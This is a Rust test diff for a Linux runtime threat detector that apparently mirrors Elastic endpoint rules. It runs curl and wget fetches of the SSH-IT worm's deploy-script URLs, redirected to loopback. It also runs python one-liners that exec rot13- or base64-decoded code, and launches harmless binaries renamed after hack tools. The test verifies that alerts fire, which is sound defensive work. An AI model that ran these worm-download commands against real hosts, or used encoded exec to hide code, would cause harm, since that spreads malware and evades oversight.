@@ -7291,3 +7291,141 @@ fn busybox_cron_tables_udev_runtime_rules_and_the_name_service_switch_written_as
     let found = detect(pid);
     assert!(found.is_empty(), "reads: {:?}", kinds(&found));
 }
+
+/// Elastic's endpoint behaviour rules for Linux, the files past the stored listing, as the tools
+/// do them: curl and wget fetching THC's deploy scripts of the SSH-IT worm and gsocket ("Potential
+/// SSH-IT SSH Worm Downloaded"; the host resolved to, or proxied through, loopback), python
+/// one-liners that exec a program hidden with rot13 or binascii ("Suspicious Python Encoded
+/// Payload Execution"), and programs of the test's own run under the names of "Potential Linux
+/// Hack Tool Launched" that the tool rules lacked. Each raises its rule at its level; curl
+/// fetching the worm's documentation page and a one-liner that only prints what it decodes raise
+/// none.
+#[test]
+fn thc_deploy_scripts_encoded_python_one_liners_and_hack_tool_names() {
+    if !privileged("thc_deploy_scripts_encoded_python_one_liners_and_hack_tool_names") {
+        return;
+    }
+    let raised = |pid: u32, what: &str, rule_id: &str, t: &str, label: SeverityLabel| {
+        let found = detect(pid);
+        let f = of(&found, rule_id);
+        assert!(
+            !f.is_empty()
+                && f.iter()
+                    .all(|f| f.finding_type == t && f.severity_label == label),
+            "{what}: {:?}",
+            kinds(&found)
+        );
+    };
+    let none_of = |pid: u32, what: &str, rule_id: &str| {
+        let found = detect(pid);
+        assert!(
+            of(&found, rule_id).is_empty(),
+            "{what}: {:?}",
+            kinds(&found)
+        );
+    };
+    const TOOL: &str = "Execution:Runtime/SuspiciousTool";
+    const COMMAND: &str = "Execution:Runtime/SuspiciousCommand";
+
+    // THC's deploy scripts: nothing leaves the machine (the name resolves to loopback, where
+    // nothing listens on 443; wget asks the loopback server as its proxy).
+    raised(
+        run(Command::new("curl").args([
+            "-s",
+            "-m",
+            "3",
+            "--resolve",
+            "thc.org:443:127.0.0.1",
+            "-o",
+            "/dev/null",
+            "https://thc.org/ssh-it/x",
+        ])),
+        "curl https://thc.org/ssh-it/x",
+        "tool-thc-deploy-download",
+        TOOL,
+        SeverityLabel::High,
+    );
+    let proxy = http_server();
+    raised(
+        run(Command::new("wget").args([
+            "-q",
+            "-T",
+            "3",
+            "-t",
+            "1",
+            "-e",
+            "use_proxy=on",
+            "-e",
+            &format!("http_proxy={proxy}"),
+            "-O",
+            "/dev/null",
+            "http://nossl.segfault.net/ssh-it-deploy.sh",
+        ])),
+        "wget http://nossl.segfault.net/ssh-it-deploy.sh",
+        "tool-thc-deploy-download",
+        TOOL,
+        SeverityLabel::High,
+    );
+    none_of(
+        run(Command::new("curl").args([
+            "-s",
+            "-m",
+            "3",
+            "--resolve",
+            "thc.org:443:127.0.0.1",
+            "-o",
+            "/dev/null",
+            "https://thc.org/ssh-it/",
+        ])),
+        "curl https://thc.org/ssh-it/",
+        "tool-thc-deploy-download",
+    );
+
+    // Encoded python one-liners, run by python itself (and whatever version manager stands
+    // before it: each program of the chain given the line is one).
+    let Ok(python) = which("python3") else {
+        not_tested("NOT TESTED encoded python one-liners: no python3 on this machine");
+        return;
+    };
+    for (line, what) in [
+        (
+            "import codecs;exec(codecs.decode('cevag(1)','rot13'))",
+            "exec(codecs.decode(..., 'rot13'))",
+        ),
+        (
+            "import binascii;exec(binascii.a2b_base64('cHJpbnQoMSk='))",
+            "exec(binascii.a2b_base64(...))",
+        ),
+    ] {
+        raised(
+            run(Command::new(&python).args(["-c", line])),
+            what,
+            "exec-interpreter-decoded-program",
+            COMMAND,
+            SeverityLabel::High,
+        );
+    }
+    none_of(
+        run(Command::new(&python)
+            .args(["-c", "import codecs;print(codecs.decode('uryyb','rot13'))"])),
+        "print(codecs.decode(..., 'rot13'))",
+        "exec-interpreter-decoded-program",
+    );
+
+    // The hack tools' names, on copies of true in the scratch directory.
+    let dir = Scratch::new("hack-tools");
+    for (name, rule_id, label) in [
+        ("whatweb", "tool-web-scanner", SeverityLabel::Medium),
+        ("commix", "tool-web-scanner", SeverityLabel::Medium),
+        ("fcrackzip", "tool-password-cracker", SeverityLabel::High),
+        ("netdiscover", "tool-masscan", SeverityLabel::Medium),
+        ("yersinia", "tool-mitm", SeverityLabel::High),
+        ("pspy64s", "tool-privesc-enumeration", SeverityLabel::Medium),
+        ("evil-winrm", "tool-c2-framework", SeverityLabel::High),
+    ] {
+        let path = dir.path(name);
+        std::fs::copy("/bin/true", &path).expect("copy true");
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+        raised(run(&mut Command::new(&path)), name, rule_id, TOOL, label);
+    }
+}
